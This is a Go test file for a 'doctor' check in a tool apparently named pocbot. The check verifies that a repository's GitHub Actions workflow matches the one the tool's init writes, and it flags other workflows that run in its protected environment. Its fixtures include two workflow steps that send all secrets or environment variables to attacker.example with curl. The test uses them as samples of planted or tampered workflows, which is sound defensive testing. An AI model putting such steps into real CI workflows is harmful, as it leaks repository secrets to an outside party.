package doctor

import (
	"strings"
	"testing"

	gh "github.com/google/go-github/v88/github"

	"github.com/pocbot/pocbot/internal/repoinit"
	ghsim "github.com/pocbot/pocbot/internal/sim/github"
	"github.com/pocbot/pocbot/internal/sim/github/githubtest"
)

const pinned = "pocbot/pocbot@0123456789abcdef0123456789abcdef01234567 # v1.2.3"

// The workflow on the default branch is checked against the one init writes, and every other
// workflow in the poc environment is named. Failed on the old code, which read only the pin: a
// planted workflow in the environment (the case "a second workflow in the environment") and a
// step added to pocbot's own workflow both showed ✓.
func TestDoctorChecksTheWorkflowIsInits(t *testing.T) {
	initWorkflow := string(repoinit.WorkflowFile(pinned, true, ""))
	exfil := "on: push\njobs:\n  sync:\n    runs-on: ubuntu-latest\n    environment:\n      name: POC\n    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n"
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string // lines of the checklist, each a substring
	}{
		{name: "init's", files: map[string]string{repoinit.WorkflowPath: initWorkflow, ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps: []\n"},
			want: []string{"✓ workflow ", "init's workflow on main", "✓ workflow pin", "✓ environment poc", "no other workflow on main runs in it"}},
		{name: "a second workflow in the environment", files: map[string]string{repoinit.WorkflowPath: initWorkflow, ".github/workflows/sync.yaml": exfil},
			want: []string{"✓ workflow ", "✗ environment poc", ".github/workflows/sync.yaml (environment: POC)"}},
		{name: "only another workflow in the environment", files: map[string]string{".github/workflows/sync.yaml": exfil},
			want: []string{"✗ workflow ", "no .github/workflows/poc.yml on main", "✗ environment poc", ".github/workflows/sync.yaml (environment: POC)"}},
		{name: "a step added", files: map[string]string{repoinit.WorkflowPath: strings.Replace(initWorkflow, "    steps:\n", "    steps:\n      - run: env | curl -d @- https://attacker.example\n", 1)},
			want: []string{"✗ workflow ", "is not the workflow init writes", `line 49 is "      - run: env | curl -d @- https://attacker.example"`}},
		{name: "not pinned, another event", files: map[string]string{repoinit.WorkflowPath: strings.Replace(strings.Replace(initWorkflow,
			"@0123456789abcdef0123456789abcdef01234567 # v1.2.3", "@v1", 1), "on:\n", "on:\n  push:\n", 1)},
			want: []string{"✗ workflow ", "uses: pocbot/pocbot@v1 is not pinned by commit SHA", "its events are issue_comment, pull_request_target, push, repository_dispatch, schedule, workflow_dispatch", "✗ workflow pin"}},
		{name: "another runner", files: map[string]string{repoinit.WorkflowPath: strings.Replace(initWorkflow, "runs-on: ubuntu-latest", "runs-on: [self-hosted, gpu]", 1)},
			want: []string{"! workflow ", `it runs on "[self-hosted, gpu]"`}},
		{name: "another Action", files: map[string]string{repoinit.WorkflowPath: strings.Replace(initWorkflow, "pocbot/pocbot@", "someone/pocbot@", 1)},
			want: []string{"! workflow ", "its Action is someone/pocbot, not pocbot/pocbot"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, url := githubtest.Serve(t, ghsim.Options{})
			s.AddRepo("acme/shop", "main")
			s.SetPermission("acme/shop", "ada", "admin")
			tok := s.AddUserToken("ada")
			root := url + "/"
			c, err := gh.NewClient(gh.WithAuthToken(tok), gh.WithURLs(&root, nil))
			if err != nil {
				t.Fatal(err)
			}
			if _, _, err := c.Repositories.CreateUpdateEnvironment(t.Context(), "acme", "shop", "poc", nil); err != nil {
				t.Fatal(err)
			}
			for p, b := range tc.files {
				s.SetFile("acme/shop", "", p, []byte(b))
			}
			g := GitHub{Repo: "acme/shop", APIURL: url, Token: tok}
			var out strings.Builder
			Run(t.Context(), g.Checks()[1]).Render(&out)
			for _, want := range tc.want {
				if !strings.Contains(out.String(), want) {
					t.Errorf("the checklist lacks %q:\n%s", want, out.String())
				}
			}
		})
	}
}
